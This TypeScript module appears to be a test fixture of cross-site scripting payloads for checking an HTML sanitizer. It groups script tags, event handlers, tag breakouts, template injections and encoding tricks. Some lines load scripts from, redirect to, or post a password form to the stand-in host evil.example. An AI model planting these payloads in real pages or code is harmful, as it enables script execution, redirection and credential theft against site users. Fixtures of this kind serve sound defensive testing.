/**
 * Payloads for injection into pages. If one of them ran, it would call `alert`.
 */
interface PayloadClass {
  payloads: readonly string[];
  /** The payload runs only if a script decodes or evaluates it. */
  isLatent?: boolean;
}

export const payloadClasses: Readonly<Record<string, PayloadClass>> = {
  scripts: {
    payloads: [
      '<script>alert(1)</script>',
      '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
      '<scr<script>ipt>alert(1)</scr</script>ipt>',
      '<sCrIpT/xss>alert(1)</sCrIpT\t\n bar>',
      '\n<script>\nalert(1)\n</script>\n',
      '<svg><![CDATA[><script>alert(1)</script>]]></svg>',
      '<?xml version="1.0"?><script>alert(1)</script>',
      '<template><script>alert(1)</script></template>',
    ],
  },
  'elements that run or draw': {
    payloads: [
      '<img src=x onerror=alert(1)>',
      '<img src="x" onerror="alert(1)">',
      '<body onload=alert(1)>',
      '<input autofocus onfocus=alert(1)>',
      '<textarea autofocus onfocus=alert(1)></textarea>',
      '<details open ontoggle=alert(1)>',
      '<video><source onerror=alert(1)></video>',
      '<marquee onstart=alert(1)>',
      '<a\u00a0onmouseover=alert(1)>',
      '<svg onload=alert(1)>',
      '<svg><script>alert&#40;1&#41;</script>',
      '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
      '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    ],
  },
  'elements that load, hide or stand for others': {
    payloads: [
      '<iframe src="javascript:alert(1)"></iframe>',
      '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
      '<object data="data:text/html,<script>alert(1)</script>"></object>',
      '<embed src="javascript:alert(1)">',
      '<base href="https://evil.example/">',
      '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
      '<link rel="stylesheet" href="https://evil.example/x.css">',
      '<style>*{display:none}</style>',
      '<style>@import "https://evil.example/x.css";</style>',
      '<div style="position:fixed;inset:0">',
      '" style="animation-name:x" onanimationstart="alert(1)',
      '<form id=content name=forms><input name=attributes><input name=action></form>',
      '<img name=body id=querySelectorAll>',
      '<a id=L href=x></a><a id=L name=map href="javascript:alert(1)"></a>',
    ],
  },
  'ends of what they stand in': {
    payloads: [
      '</textarea><script>alert(1)</script>',
      '</title><script>alert(1)</script>',
      '</style><script>alert(1)</script>',
      '</script><script>alert(1)</script>',
      '</select><script>alert(1)</script>',
      '</option></select><img src=x onerror=alert(1)>',
      '</p></main></body></html><script>alert(1)</script>',
      '<!-- --><script>alert(1)</script>',
      '--><script>alert(1)</script><!--',
    ],
  },
  'attributes and addresses': {
    payloads: [
      '" onmouseover="alert(1)',
      '" autofocus onfocus="alert(1)',
      '" style="background:url(https://evil.example)',
      '"><script>alert(1)</script>',
      '"/><img src=x onerror=alert(1)>',
      "' onmouseover='alert(1)",
      "'><script>alert(1)</script>",
      '\\"><script>alert(1)</script>',
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)//https://museum.example/',
      'data:text/html,<script>alert(1)</script>',
      'https://evil.example/" onclick="alert(1)',
      '<a href="javascript:alert(1)">x</a>',
      '<a href=javascript:alert(1)>x',
      '<form action="https://evil.example/"><input name=password>',
      '<button formaction=javascript:alert(1)>x</button>',
    ],
  },
  'JSON and templates': {
    isLatent: true,
    payloads: [
      '"}];alert(1);//',
      '{"__proto__":{"innerHTML":"\\u003cimg src=x onerror=alert(1)\\u003e"}}',
      '\u2028alert(1)\u2029//',
      '{{constructor.constructor("alert(1)")()}}',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the payload
      '${alert(1)}',
      '<%= alert(1) %>',
      "' + alert(1) + '",
      '` onmouseover=`alert(1)',
      'x onmouseover=alert(1) y',
    ],
  },
  'encodings and tricks of Unicode': {
    isLatent: true,
    payloads: [
      '&lt;script&gt;alert(1)&lt;/script&gt;',
      '&#60;script&#62;alert(1)&#60;/script&#62;',
      '&quot; onmouseover=&quot;alert(1)',
      '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
      '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
      '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
      '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
      '\u202e>tpircs/<)1(trela>tpircs<\u202c',
      '<\u200bscript>alert(1)</\u200bscript>',
      '\u02b9\u02bconmouseover=alert(1)',
    ],
  },
};

export const payloads: readonly string[] = Object.values(payloadClasses).flatMap((each) => each.payloads);
